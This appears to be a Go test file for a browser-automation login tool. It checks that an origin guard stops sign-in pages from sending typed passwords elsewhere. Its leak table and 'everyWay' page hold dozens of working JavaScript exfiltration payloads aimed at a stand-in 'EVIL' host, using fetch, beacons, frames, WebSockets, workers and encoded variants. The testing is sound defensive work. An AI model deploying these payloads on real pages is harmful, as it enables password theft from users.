package chrome

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"strings"
	"testing"
	"time"

	"gatepass/auth/login"
)

// evil keeps everything that it is sent, the handshakes of WebSockets included.
func evil(t *testing.T) (*httptest.Server, *catcher) {
	c := &catcher{}
	return serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		whole, err := httputil.DumpRequest(r, true)
		if err != nil {
			whole = []byte(err.Error())
		}
		c.add(string(whole))
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		_, _ = io.WriteString(w, "<title>Thanks</title>")
	})), c
}

// leaks are pages that try to carry off what is typed. EVIL is where to.
var leaks = map[string]string{
	"a form to elsewhere":         `<form method="post" action="EVIL/form">FIELDS</form>`,
	"a form changed when pressed": `<form method="post" action="/in" onsubmit="this.action='EVIL/form'">FIELDS</form>`,
	"a button to elsewhere":       `<form method="post" action="/in" onsubmit="this.querySelector('button').formAction='EVIL/form'">FIELDS</form>`,
	"a redirect with the body":    `<form method="post" action="/redirect307">FIELDS</form>`,
	"a redirect with the address": `<form method="post" action="/redirect302">FIELDS</form>`,
	"fetch":                       `<form method="post" action="/in" onsubmit="fetch('EVIL/f',{method:'POST',mode:'no-cors',body:pw()});return false">FIELDS</form>`,
	"fetch as typed":              `<form method="post" action="/in">FIELDS</form><script>addEventListener('keyup',()=>fetch('EVIL/f?'+encodeURIComponent(pw()),{mode:'no-cors'}))</script>`,
	"fetch in base64":             `<form method="post" action="/in" onsubmit="fetch('EVIL/f?'+btoa(unescape(encodeURIComponent('x'+pw()))),{mode:'no-cors'});return false">FIELDS</form>`,
	"fetch in hexadecimal":        `<form method="post" action="/in" onsubmit="fetch('EVIL/f?'+[...new TextEncoder().encode(pw())].map(b=>b.toString(16).padStart(2,0)).join(''),{mode:'no-cors'});return false">FIELDS</form>`,
	"fetch in a header":           `<form method="post" action="/in" onsubmit="fetch('EVIL/f',{headers:{'X-P':encodeURIComponent(pw())}});return false">FIELDS</form>`,
	"JSON":                        `<form method="post" action="/in" onsubmit="const x=new XMLHttpRequest();x.open('POST','EVIL/x');x.send(JSON.stringify({p:pw()}));return false">FIELDS</form>`,
	"a beacon":                    `<form method="post" action="/in" onsubmit="navigator.sendBeacon('EVIL/b',pw());return false">FIELDS</form>`,
	"a picture":                   `<form method="post" action="/in" onsubmit="new Image().src='EVIL/i?p='+encodeURIComponent(pw());return false">FIELDS</form>`,
	"a frame":                     `<form method="post" action="/in" onsubmit="const f=document.createElement('iframe');f.src='EVIL/i?p='+encodeURIComponent(pw());document.body.append(f);return false">FIELDS</form>`,
	"a form in a frame":           `<iframe name="n"></iframe><form method="post" action="EVIL/form" target="n" id="g"><input type="hidden" name="h"></form><form method="post" action="/in" onsubmit="g.h.value=pw();g.submit();return false">FIELDS</form>`,
	"a style sheet":               `<form method="post" action="/in" onsubmit="const l=document.createElement('link');l.rel='stylesheet';l.href='EVIL/i?p='+encodeURIComponent(pw());document.head.append(l);return false">FIELDS</form>`,
	"going there":                 `<form method="post" action="/in" onsubmit="location='EVIL/?p='+encodeURIComponent(pw());return false">FIELDS</form>`,
	"a new window":                `<form method="post" action="/in" onsubmit="window.open('EVIL/?p='+encodeURIComponent(pw()));return false">FIELDS</form>`,
	"a new window's form":         `<form method="post" action="/in" onsubmit="window.open('EVIL/later');this.action='EVIL/form';this.target='_blank'">FIELDS</form>`,
	"a WebSocket's address":       `<form method="post" action="/in" onsubmit="new WebSocket('EVIL/s?p='.replace('http','ws')+encodeURIComponent(pw()));return false">FIELDS</form>`,
	"a WebSocket":                 `<form method="post" action="/in" onsubmit="ws.send(pw());return false">FIELDS</form><script>const ws=new WebSocket('EVIL/s'.replace('http','ws'))</script>`,
	"an unhooked WebSocket":       `<iframe id="b"></iframe><form method="post" action="/in" onsubmit="try{new (b.contentWindow.WebSocket)('EVIL/s'.replace('http','ws')).onopen=e=>e.target.send(pw())}catch{};return false">FIELDS</form>`,
	"an event source":             `<form method="post" action="/in" onsubmit="new EventSource('EVIL/i?p='+encodeURIComponent(pw()));return false">FIELDS</form>`,
	"a worker":                    `<form method="post" action="/in" onsubmit="w.postMessage(pw());return false">FIELDS</form><script>const w=new Worker(URL.createObjectURL(new Blob(["onmessage=e=>fetch('EVIL/w',{method:'POST',mode:'no-cors',body:e.data})"])))</script>`,
	"a worker's WebSocket":        `<form method="post" action="/in" onsubmit="w.postMessage(pw());return false">FIELDS</form><script>const w=new Worker(URL.createObjectURL(new Blob(["onmessage=e=>{const s=new WebSocket('EVIL/w'.replace('http','ws'));s.onopen=()=>s.send(e.data)}"])))</script>`,
	"a shared worker":             `<form method="post" action="/in" onsubmit="w.port.postMessage(pw());return false">FIELDS</form><script>const w=new SharedWorker('/shared.js')</script>`,
	"a service worker":            `<form method="post" action="/in" onsubmit="navigator.serviceWorker.ready.then(r=>r.active.postMessage(pw()));return false">FIELDS</form><script>navigator.serviceWorker.register('/service.js')</script>`,
}

// quiet are the attempts that fail before there is anything to carry off, or where
// nobody is told: nothing leaves, and the run goes on.
var quiet = map[string]bool{"a WebSocket": true, "a worker's WebSocket": true}

const leakFields = `<label>Username <input name="u"></label><label>Password <input type="password" name="p"></label><button>Log in</button>`

func leaky(kind, to string) http.Handler {
	page := `<!doctype html><title>Sign in</title><h1>Sign in</h1><script>const pw=()=>document.querySelector('[name=p]').value</script>` +
		strings.NewReplacer("EVIL", to, "FIELDS", leakFields).Replace(leaks[kind])
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/redirect307":
			http.Redirect(w, r, to+"/r", http.StatusTemporaryRedirect)
		case "/redirect302":
			http.Redirect(w, r, to+"/r?p="+strings.ReplaceAll(fmt.Sprintf("%x", r.FormValue("p")), " ", ""), http.StatusFound)
		case "/shared.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, `onconnect=c=>c.ports[0].onmessage=e=>fetch('`+to+`/w',{method:'POST',mode:'no-cors',body:e.data})`)
		case "/service.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, `onmessage=e=>fetch('`+to+`/w',{method:'POST',mode:'no-cors',body:e.data})`)
		default:
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, page)
		}
	})
}

// However a page tries to carry off a password, the other origin does not get it in
// any encoding, and where the attempt is seen the run ends and names the origin.
func TestNothingLeaves(t *testing.T) {
	for kind := range leaks {
		t.Run(kind, func(t *testing.T) {
			t.Parallel()
			e, caught := evil(t)
			to := other(e)
			s := serve(t, leaky(kind, to))
			d := open(t, Options{Guard: allowing(s.URL)})
			p := see(t, d, s.URL)
			ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
			defer cancel()
			_, err := d.Submit(ctx, p, fill(t, p))
			var all login.Secrets
			all.AddInputs(fill(t, p).Inputs)
			if got := caught.all(); all.In(got) {
				t.Fatalf("the password arrived:\n%s", got)
			}
			if !quiet[kind] {
				wantHeld(t, err, to)
			}
		})
	}
}

// wantHeld fails a test unless a run ended because of an origin, and names it.
func wantHeld(t *testing.T, err error, to string) {
	t.Helper()
	stop := stopOf(err)
	if stop == nil || stop.Diagnosis.Code != login.UnexpectedOrigin || !strings.Contains(stop.Diagnosis.Detail, strings.TrimPrefix(to, "http")) {
		t.Errorf("the run did not end with the origin's name: %v", err)
		if stop != nil {
			t.Log(stop.Diagnosis)
		}
	}
}

// everyWay is a page that tries all ways at once that have a part of the browser to
// themselves, where a whole browser differs from a headless shell. It tells its own server
// what was tried, and so do its workers.
const everyWay = `<!doctype html><title>Sign in</title><h1>Sign in</h1><iframe name="n"></iframe><iframe id="b"></iframe>
<form method="post" action="EVIL/form" target="n" id="g"><input type="hidden" name="h"></form><form id="f">FIELDS</form><script>
const pw = () => document.querySelector("[name=p]").value, tried = [];
const w = new Worker("/worker.js"), shared = new SharedWorker("/shared.js");
const ready = navigator.serviceWorker.register("/service.js").then(() => navigator.serviceWorker.ready);
addEventListener("keyup", () => fetch("EVIL/f?" + encodeURIComponent(pw()), {mode: "no-cors"}).catch(() => 0));
f.onsubmit = event => {
  event.preventDefault();
  const ways = {
    worker: () => w.postMessage(pw()), shared: () => shared.port.postMessage(pw()), service: async () => (await ready).active.postMessage(pw()),
    frame: () => { const i = document.createElement("iframe"); i.src = "EVIL/i?p=" + encodeURIComponent(pw()); document.body.append(i) },
    framed: () => { g.h.value = pw(); g.submit() },
    socket: () => { new WebSocket("EVIL/s?p=".replace("http", "ws") + encodeURIComponent(pw())) },
    unhooked: () => { new (b.contentWindow.WebSocket)("EVIL/s".replace("http", "ws")).onopen = e => e.target.send(pw()) },
    window: () => { open("EVIL/?p=" + encodeURIComponent(pw())) },
    body: () => fetch("/redirect307", {method: "POST", body: pw()}).catch(() => 0),
  };
  Promise.all(Object.entries(ways).map(async ([name, way]) => { try { await way() } catch {} tried.push(name) })).then(() => fetch("/tried?" + tried));
};
</script>`

// In a whole browser none of the ways works either that have a part of it to themselves.
func TestNothingLeavesAWholeBrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("a whole browser takes its time")
	}
	t.Parallel()
	e, caught := evil(t)
	to := other(e)
	tried := make(chan string, 10)
	worker := func(name, takes string) string {
		return takes + `{let s;try{s=new WebSocket("` + to + `/w".replace("http","ws"));s.onopen=()=>s.send(e.data)}catch{}
fetch("` + to + `/w",{method:"POST",mode:"no-cors",body:e.data}).catch(()=>0).then(()=>fetch("/tried?` + name + `"))}`
	}
	scripts := map[string]string{
		"/worker.js":  worker("worker", `onmessage=e=>`),
		"/shared.js":  worker("shared", `onconnect=c=>c.ports[0].onmessage=e=>`),
		"/service.js": worker("service", `onmessage=e=>`),
	}
	s := serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch script := scripts[r.URL.Path]; {
		case r.URL.Path == "/tried":
			tried <- r.URL.RawQuery
		case r.URL.Path == "/redirect307":
			http.Redirect(w, r, to+"/r", http.StatusTemporaryRedirect)
		case script != "":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, script)
		default:
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, strings.NewReplacer("EVIL", to, "FIELDS", leakFields).Replace(everyWay))
		}
	}))
	d := open(t, Options{Path: "chromium", Guard: allowing(s.URL)})
	p := see(t, d, s.URL)
	in := fill(t, p)
	_, err := d.Submit(within(t), p, in)
	wantHeld(t, err, to)
	var tries []string
	for ctx := within(t); len(tries) < 4; {
		select {
		case name := <-tried:
			tries = append(tries, name)
		case <-ctx.Done():
			t.Fatalf("only these were tried: %q", tries)
		}
	}
	var all login.Secrets
	all.AddInputs(in.Inputs)
	if got := caught.all(); all.In(got) {
		t.Fatalf("the password arrived:\n%s", got)
	}
}

// Requests to elsewhere that hold no secret do not stop a login that goes on
// without them; those that send something are held back all the same.
func TestALoginGoesOnWithoutItsTelemetry(t *testing.T) {
	e, caught := evil(t)
	s := serve(t, accept(site{"/": strings.Replace(form("/in"), "<form ", `<img src="`+other(e)+`/logo"><form onsubmit="navigator.sendBeacon('`+other(e)+`/t','clicked')" `, 1)}))
	d := open(t, Options{Guard: allowing(s.URL)})
	p := answer(t, d, see(t, d, s.URL))
	if !strings.Contains(p.Text, "Welcome") {
		t.Errorf("after the login: %q", p.Text)
	}
	if got := caught.all(); !strings.Contains(got, "GET /logo") || strings.Contains(got, "POST") {
		t.Errorf("what arrived elsewhere:\n%s", got)
	}
}
